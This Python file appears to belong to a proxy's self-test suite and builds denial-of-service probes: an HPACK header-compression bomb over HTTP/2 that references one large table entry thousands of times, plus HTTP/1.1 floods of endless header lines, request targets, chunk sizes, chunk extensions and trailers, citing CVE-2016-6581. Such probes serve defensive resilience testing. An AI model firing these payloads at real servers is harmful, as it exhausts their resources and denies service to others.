"""Headers that grow."""

from collections.abc import Callable, Iterator
from functools import partial
from itertools import chain, repeat
from typing import Any

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.floods import unserved
from bottle.selftest.probes.http2 import END_HEADERS, END_STREAM, HEADERS, OPENING, block, frame, head
from bottle.selftest.probes.shots import HOST

_BIG = b"y" * 3900
_ENTRY = b"\x40\x01x\x7f" + bytes((len(_BIG) - 127 & 0x7F | 0x80, len(_BIG) - 127 >> 7)) + _BIG
_REFERENCE = b"\xbe"  # the newest entry of the table: four kilobytes for one byte
_LINE = b"x: " + b"y" * 8000 + b"\r\n"


@attack(
    aim="proxy",
    source="CVE-2016-6581 (HPACK bomb); CVE-2023-44487's kin; MITRE ATT&CK T1499.003",
    expects="another connection's request is answered with 200",
    control="nobody_who_serves",
    outside=True,
    every=True,
    alone=True,
)
def attempts(aim: Any) -> Iterator[Attempt]:
    """Sends headers without end: by reference to one large entry, as lines, as one line, as chunk sizes."""
    start = b"GET /v1/permitted HTTP/1.1\r\nHost: " + HOST + b"\r\n"
    post = b"POST /v1/permitted HTTP/1.1\r\nHost: " + HOST + b"\r\nTransfer-Encoding: chunked\r\n\r\n"
    yield "HPACK references", partial(unserved, aim, bomb())
    floods: dict[str, Callable[[], Iterator[bytes]]] = {
        "lines": lambda: chain([start], repeat(_LINE)),
        "one line": lambda: chain([start, b"x: "], repeat(b"y" * 65536)),
        "a long target": lambda: chain([b"GET /v1/"], repeat(b"y" * 65536)),
        "a chunk size": lambda: chain([post], repeat(b"0" * 65536)),
        "a chunk extension": lambda: chain([post, b"1;x="], repeat(b"y" * 65536)),
        "trailers": lambda: chain([post, b"0\r\n"], repeat(_LINE)),
    }
    for what, flood in floods.items():
        yield what, partial(_flooded, aim, flood, clear=False)
    for what in ("lines", "one line", "a long target"):
        yield f"{what} to the proxy itself", partial(_flooded, aim, floods[what], clear=True)


def _flooded(aim: Any, flood: Callable[[], Iterator[bytes]], *, clear: bool) -> str | None:
    return unserved(aim, flood(), alpn=("http/1.1",), clear=clear)


def bomb() -> Iterator[bytes]:
    """Sixteen megabytes of headers, then as many again, each in sixteen kilobytes."""
    yield OPENING
    whole = END_STREAM | END_HEADERS
    yield frame(HEADERS, whole, 1, block(head(b"/v1/permitted")) + _ENTRY)
    for stream in range(3, 40, 2):
        yield frame(HEADERS, whole, stream, block(head(b"/v1/permitted")) + _REFERENCE * 4000)
